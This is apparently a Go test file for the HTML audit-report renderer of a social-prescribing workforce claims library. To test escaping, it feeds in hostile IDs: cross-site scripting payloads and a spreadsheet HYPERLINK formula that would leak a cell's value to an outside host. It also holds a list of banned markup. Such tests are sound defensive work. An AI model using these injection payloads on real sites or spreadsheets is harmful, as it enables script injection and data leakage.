package render_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"image"
	"image/png"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	sp "github.com/socialprescribing/go-socialprescribing"
	"github.com/socialprescribing/go-socialprescribing/internal/browsertest"
	"github.com/socialprescribing/go-socialprescribing/render"
	"github.com/socialprescribing/go-socialprescribing/workforce"
)

// sampleReport audits the auditor example's sample claims.
func sampleReport(t *testing.T) workforce.Report {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "examples", "auditor", "claims.json"))
	if err != nil {
		t.Fatal(err)
	}
	in, err := workforce.ParseInput(data)
	if err != nil {
		t.Fatal(err)
	}
	return workforce.Audit(in, workforce.DefaultRules())
}

// hostileReport audits claims whose IDs are valid but would be markup, a formula or a quote if
// written as they are.
func hostileReport() workforce.Report {
	ids := []string{`<img src=x onerror=alert(1)>`, `=HYPERLINK("http://example.org/?"&A1,"click")`, `@SUM(1+1)`, `"quoted" & 'single'`}
	in := workforce.Input{PCNs: []workforce.PCN{{ID: "</td><script>alert(2)</script>", ListSize: 40000}}}
	for _, id := range ids {
		in.Staff = append(in.Staff, workforce.StaffMember{ID: id, PCN: in.PCNs[0].ID, Role: sp.RoleLinkWorker, Employment: workforce.EmploymentDirect,
			Start: sp.MustParseDate("2023-04-01"), WTE: []workforce.WTEPeriod{{From: sp.MustParseDate("2023-04-01"), WTE: workforce.MustParseWTE("1")}}})
		in.Claims = append(in.Claims, workforce.Claim{PCN: in.PCNs[0].ID, Staff: id, Month: sp.MustParseDate("2023-07-01"),
			Salary: workforce.MustParseMoney("5000.00"), EmployerNationalInsurance: workforce.MustParseMoney("0.00"), EmployerPension: workforce.MustParseMoney("0.00")})
	}
	return workforce.Audit(in, workforce.DefaultRules())
}

func auditHTML(t *testing.T, rep workforce.Report) string {
	t.Helper()
	var b bytes.Buffer
	if err := render.AuditHTML(&b, rep); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestAuditHTMLEscapesIDs: every ID goes through html/template, so none can add markup or script.
func TestAuditHTMLEscapesIDs(t *testing.T) {
	t.Parallel()
	html := auditHTML(t, hostileReport())
	for _, raw := range []string{"<img", "<script", "onerror=alert(1)>", "</td><script>"} {
		if strings.Contains(html, raw) {
			t.Errorf("the page holds %q unescaped", raw)
		}
	}
	for _, esc := range []string{"&lt;img src=x onerror=alert(1)&gt;", "&lt;/td&gt;&lt;script&gt;alert(2)&lt;/script&gt;", "&#34;quoted&#34; &amp; &#39;single&#39;"} {
		if !strings.Contains(html, esc) {
			t.Errorf("the page lacks the escaped ID %q", esc)
		}
	}
}

// TestAuditHTMLLinks: every link inside the page points at an element of the page, and the page
// loads nothing from elsewhere.
func TestAuditHTMLLinks(t *testing.T) {
	t.Parallel()
	html := auditHTML(t, sampleReport(t))
	ids := map[string]bool{}
	for _, m := range regexp.MustCompile(` id="([^"]+)"`).FindAllStringSubmatch(html, -1) {
		if ids[m[1]] {
			t.Errorf("id %q is used twice", m[1])
		}
		ids[m[1]] = true
	}
	links := regexp.MustCompile(` href="([^"]*)"`).FindAllStringSubmatch(html, -1)
	if len(links) < 50 {
		t.Fatalf("only %d links in the page", len(links))
	}
	for _, m := range links {
		if !strings.HasPrefix(m[1], "#") || !ids[m[1][1:]] {
			t.Errorf("link %q does not point at an element of the page", m[1])
		}
	}
	for _, banned := range []string{"<script", "<link", "<img", "src=", "@import", "url("} {
		if strings.Contains(html, banned) {
			t.Errorf("the page holds %q", banned)
		}
	}
}

// TestAuditHTMLInBrowser opens the sample's report in headless Chromium and checks what a person
// sees: the totals, a capped line's derivation, and no error in the console.
func TestAuditHTMLInBrowser(t *testing.T) {
	rep := sampleReport(t)
	b := browsertest.Start(t)
	b.SetViewport(1000, 1400, false)
	b.LoadHTML([]byte(auditHTML(t, rep)))

	// The totals, as the report has them, written as people read pounds.
	for sel, want := range map[string]string{
		"#total-lines":   "39",
		"#total-claimed": "£111,115.30",
		"#total-allowed": "£88,578.64",
		"#total-payable": "£52,202.95",
	} {
		if got := strings.TrimSpace(b.Text(sel)); got != want {
			t.Errorf("%s shows %q, want %q", sel, got, want)
		}
	}
	// The first capped line, R-002 in April 2023: a full-time link worker, 38,187 ÷ 12 = 3,182.25.
	row := b.Text("#claim-0")
	for _, want := range []string{"/claims/0", "R-002", "2023-04", "£3,182.25", "capped"} {
		if !strings.Contains(row, want) {
			t.Errorf("the first line shows %q, want it to contain %q", row, want)
		}
	}
	derivation := b.Text("#claim-0 + tr.derivation")
	for _, want := range []string{"30 of 30 days in post", "£38,187.00 a year × 1 WTE × 30 days ÷ (12 × 30 days)", "Maximum £3,182.25", "capped at the maximum"} {
		if !strings.Contains(derivation, want) {
			t.Errorf("the derivation shows %q, want it to contain %q", derivation, want)
		}
	}
	if n := b.Count("tr.capped"); n != rep.Totals.Capped {
		t.Errorf("%d lines highlighted as capped, want %d", n, rep.Totals.Capped)
	}
	// A finding links to its line, which is on the page.
	var ok bool
	b.Eval(`(() => { const a = document.querySelector('#findings a[href^="#claim-"]'); return a !== null && document.getElementById(a.getAttribute('href').slice(1)) !== null; })()`, &ok)
	if !ok {
		t.Errorf("no finding links to a line of the page")
	}
	if errs := b.Errors(); len(errs) > 0 {
		t.Errorf("the page logged errors: %v", errs)
	}
	if ext := b.ExternalRequests(); len(ext) > 0 {
		t.Errorf("the page requested %v", ext)
	}
	shot := filepath.Join("testdata", "audit-report.png")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		// The top of the page (the header, the summary, the PCN-years and the first lines) is what
		// the README shows.
		full, err := png.Decode(bytes.NewReader(b.Screenshot()))
		if err != nil {
			t.Fatal(err)
		}
		top, ok := full.(interface {
			SubImage(image.Rectangle) image.Image
		})
		if !ok {
			t.Fatal("the screenshot cannot be cropped")
		}
		var out bytes.Buffer
		enc := png.Encoder{CompressionLevel: png.BestCompression}
		if err := enc.Encode(&out, top.SubImage(image.Rect(0, 0, 1000, 1400))); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(shot, withText(t, out.Bytes(), screenshotKey, auditPageDigest(t)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// auditPageDigest is the SHA-256 of the sample's audit page, leaving out the library version (which
// changes the footer and nothing the screenshot shows).
func auditPageDigest(t *testing.T) string {
	t.Helper()
	page := auditHTML(t, sampleReport(t))
	sum := sha256.Sum256([]byte(strings.ReplaceAll(page, render.Version, "VERSION")))
	return hex.EncodeToString(sum[:])
}

// TestAuditScreenshot checks the screenshot the README shows: a PNG of the top of the page at the
// browser test's viewport, as TestAuditHTMLInBrowser -update writes it.
func TestAuditScreenshot(t *testing.T) {
	t.Parallel()
	f, err := os.Open(filepath.Join("testdata", "audit-report.png"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	raw, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	img, err := png.Decode(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	if b := img.Bounds(); b.Dx() != 1000 || b.Dy() != 1400 {
		t.Errorf("screenshot is %dx%d, want the browser test's viewport of 1000x1400", b.Dx(), b.Dy())
	}
	// The screenshot records the digest of the page it shows: a page that changed since makes it stale.
	if got, want := pngText(raw, screenshotKey), auditPageDigest(t); got != want {
		t.Errorf("testdata/audit-report.png shows another page (digest %q, the page today %q): rewrite it with CI=true go test ./render -run TestAuditHTMLInBrowser -update", got, want)
	}
}

// TestRenderCompilesNoSpreadsheetCode: the workbook is in render/xlsx, which only the command-line
// tool imports, so a program that imports render compiles no spreadsheet library.
func TestRenderCompilesNoSpreadsheetCode(t *testing.T) {
	t.Parallel()
	out, err := exec.Command("go", "list", "-deps", ".").Output()
	if err != nil {
		t.Skipf("go list is not available here: %v", err)
	}
	if strings.Contains(string(out), "excelize") {
		t.Error("package render depends on excelize; the workbook belongs in render/xlsx")
	}
}
